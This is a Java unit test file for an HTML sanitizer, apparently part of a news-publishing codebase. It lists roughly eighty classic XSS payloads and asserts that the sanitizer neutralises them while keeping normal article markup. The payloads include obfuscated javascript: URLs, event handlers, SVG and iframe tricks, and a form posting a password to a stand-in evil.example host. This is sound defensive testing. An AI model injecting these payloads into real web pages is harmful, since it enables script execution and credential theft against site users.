package org.broadsheet.sanitize;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URI;
import java.util.Locale;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Classic XSS payloads must come out harmless, with and without a base URL; ordinary article markup survives. */
class HtmlSanitizerTest {
    private static final URI BASE = URI.create("https://news.example.com/2024/story.html");

    static Stream<String> payloads() {
        return Stream.of(
                // script elements
                "<script>alert(1)</script>",
                "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<p>text<script>alert(1)",
                "<<script>alert(1);//<</script>",
                "<script/xss src=https://evil.example/x.js></script>",
                // event handlers
                "<img src=x onerror=alert(1)>",
                "<img src=\"https://ok.example/a.png\" onerror=\"alert(1)\">",
                "<IMG SRC=x ONERROR=alert(1)>",
                "<body onload=alert(1)><p>hi</p>",
                "<p onclick=\"alert(1)\" onmouseover='alert(2)'>click</p>",
                "<a href=\"https://ok.example/\" onfocus=alert(1) autofocus>x</a>",
                "<div/onmouseover='alert(1)'>x</div>",
                // dangerous URLs in href and src, plain and obfuscated
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\" javascript:alert(1)\">x</a>",
                "<a href=\"&#106;avascript:alert(1)\">x</a>",
                "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
                "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112"
                        + "&#0000116&#0000058alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"jav\nascript:alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"VBScript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
                "<img src=\"&#x64;ata:image/png;base64,AAAA\">",
                "<blockquote cite=\"javascript:alert(1)\">q</blockquote>",
                "<q cite=\"vbscript:x\">q</q>",
                // svg, math, frames, objects
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<iframe src=\"https://evil.example/\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<iframe src=\"javascript:alert(1)\">",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"javascript:alert(1)\">",
                "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
                // markup inside embeds, whose fallback text is kept
                "<iframe><script>alert(1)</script><img src=x onerror=alert(1)>text</iframe>",
                "<iframe>&lt;script&gt;alert(1)&lt;/script&gt;</iframe>",
                "<iframe><iframe><iframe><iframe><script>alert(1)</script>",
                "<object><embed src=\"javascript:alert(1)\"><a href=\"javascript:alert(1)\">x</a></object>",
                "<applet code=x><param name=p value=\"javascript:alert(1)\"><svg onload=alert(1)>y</svg></applet>",
                "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
                "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
                "<object><template><script>alert(1)</script></template><style>*{}</style></object>",
                // forms
                "<form action=\"https://evil.example/steal\"><input name=p type=password><button>Go</button></form>",
                "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
                "<isindex action=\"javascript:alert(1)\" type=image>",
                // styles
                "<style>body{background:url(javascript:alert(1))}</style>",
                "<div style=\"width: expression(alert(1))\">x</div>",
                "<p style=\"background-image:url('javascript:alert(1)')\">x</p>",
                "<style>@import 'https://evil.example/x.css';</style><p>x</p>",
                "<link rel=stylesheet href=\"https://evil.example/x.css\">",
                // meta, base
                "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
                "<meta http-equiv=\"refresh\" content=\"0; url=https://evil.example/\">",
                "<base href=\"javascript:alert(1)//\">",
                "<base href=\"https://evil.example/\"><a href=\"/x\">x</a>",
                // srcdoc and other attribute tricks
                "<div srcdoc=\"<script>alert(1)</script>\">x</div>",
                "<img src=x:alert(alt) onerror=eval(src) alt=0>",
                "<a href=\"https://ok.example/\" target=\"_blank\" formaction=\"javascript:alert(1)\">x</a>",
                // nested and unclosed tag tricks
                "<div><img src=x onerror=alert(1)//",
                "<a href=\"javascript:alert(1)\"<p>unclosed",
                "<p><a href='javascript:alert(1)'><p><a href=javascript:alert(2)>x",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                "<textarea></textarea><script>alert(1)</script>",
                "<title><img src=x onerror=alert(1)></title>",
                "<!--<img src=x onerror=alert(1)>-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<template><script>alert(1)</script></template>",
                "<details open ontoggle=alert(1)>x</details>",
                "<video><source onerror=alert(1)></video>",
                "<marquee onstart=alert(1)>x</marquee>");
    }

    static Stream<Arguments> payloadsWithAndWithoutBase() {
        return payloads().flatMap(p -> Stream.of(Arguments.of(p, null), Arguments.of(p, BASE)));
    }

    @ParameterizedTest(name = "[{index}] {0} base={1}")
    @MethodSource("payloadsWithAndWithoutBase")
    void neutralisesPayload(String payload, @Nullable URI base) {
        String out = HtmlSanitizer.sanitize(payload, base);

        assertThat(out.toLowerCase(Locale.ROOT))
                .doesNotContain(
                        "<script",
                        "<iframe",
                        "<form",
                        "<style",
                        "<meta",
                        "<base",
                        "<svg",
                        "<object",
                        "<embed",
                        "<link",
                        "<frame",
                        "<input",
                        "<button",
                        "<textarea");
        Document doc = Jsoup.parseBodyFragment(out);
        assertThat(doc.select("script, iframe, frame, frameset, form, input, button, style, meta, base, link, svg, "
                        + "math, object, embed, textarea, template, noscript, video, source, details, marquee"))
                .isEmpty();
        for (Element el : doc.body().getAllElements()) {
            for (Attribute attr : el.attributes()) {
                String name = attr.getKey().toLowerCase(Locale.ROOT);
                assertThat(name)
                        .as("attribute on <%s> in %s", el.tagName(), out)
                        .doesNotStartWith("on");
                assertThat(name).isNotIn("style", "srcdoc", "formaction", "action", "xlink:href", "target");
                String value =
                        attr.getValue().replaceAll("[\\s\\x00-\\x1f]", "").toLowerCase(Locale.ROOT);
                assertThat(value)
                        .as("%s=%s in %s", name, attr.getValue(), out)
                        .doesNotStartWith("javascript:")
                        .doesNotStartWith("vbscript:")
                        .doesNotStartWith("data:")
                        .doesNotContain("javascript:", "vbscript:");
            }
        }
    }

    @Test
    void keepsArticleMarkup() {
        String html = "<p>Intro with <em>emphasis</em> and <a href=\"https://example.org/source\">a source</a>.</p>"
                + "<figure><img src=\"https://cdn.example.org/photo.jpg\" alt=\"A photo\" width=\"640\">"
                + "<figcaption>The caption</figcaption></figure>"
                + "<table><thead><tr><th scope=\"col\">Year</th></tr></thead><tbody><tr><td>2024</td></tr></tbody>"
                + "</table><blockquote cite=\"https://example.org/q\">Quoted</blockquote>";

        Document doc = Jsoup.parseBodyFragment(HtmlSanitizer.sanitize(html, BASE));

        assertThat(doc.select("p").first().text()).isEqualTo("Intro with emphasis and a source.");
        Element link = doc.selectFirst("a");
        assertThat(link.attr("href")).isEqualTo("https://example.org/source");
        assertThat(link.attr("rel")).isEqualTo("nofollow noopener noreferrer");
        Element img = doc.selectFirst("figure > img");
        assertThat(img.attr("src")).isEqualTo("https://cdn.example.org/photo.jpg");
        assertThat(img.attr("alt")).isEqualTo("A photo");
        assertThat(doc.selectFirst("figure > figcaption").text()).isEqualTo("The caption");
        assertThat(doc.select("table th[scope=col]").text()).isEqualTo("Year");
        assertThat(doc.select("table td").text()).isEqualTo("2024");
        assertThat(doc.selectFirst("blockquote").attr("cite")).isEqualTo("https://example.org/q");
    }

    @Test
    void makesRelativeUrlsAbsoluteAgainstBase() {
        Document doc = Jsoup.parseBodyFragment(
                HtmlSanitizer.sanitize("<p><a href=\"../other.html\">o</a><img src=\"/img/a.png\"></p>", BASE));

        assertThat(doc.selectFirst("a").attr("href")).isEqualTo("https://news.example.com/other.html");
        assertThat(doc.selectFirst("img").attr("src")).isEqualTo("https://news.example.com/img/a.png");
    }

    @Test
    void demotesH1ToH2() {
        assertThat(HtmlSanitizer.sanitize("<h1>Title</h1>", null)).isEqualTo("<h2>Title</h2>");
    }

    @Test
    void writesLinkRelInOneFixedOrder() {
        String html = "<a href=\"https://example.org/\" rel=\"author external\" target=\"_blank\">x</a>"
                + "<a href=\"mailto:desk@example.org\">mail</a><a name=\"anchor\">no href</a>";
        String first = HtmlSanitizer.sanitize(html, null);

        assertThat(first)
                .isEqualTo("<a href=\"https://example.org/\" rel=\"nofollow noopener noreferrer\">x</a>"
                        + "<a href=\"mailto:desk&#64;example.org\" rel=\"nofollow noopener noreferrer\">mail</a>"
                        + "no href");
        for (int i = 0; i < 20; i++) {
            assertThat(HtmlSanitizer.sanitize(html, null)).isEqualTo(first);
        }
    }

    @Test
    void doesNotMistakeAnAttributeValueNamedHrefForALink() {
        assertThat(HtmlSanitizer.sanitize("<a title=\"href\">x</a>", null)).doesNotContain("rel=");
    }
}
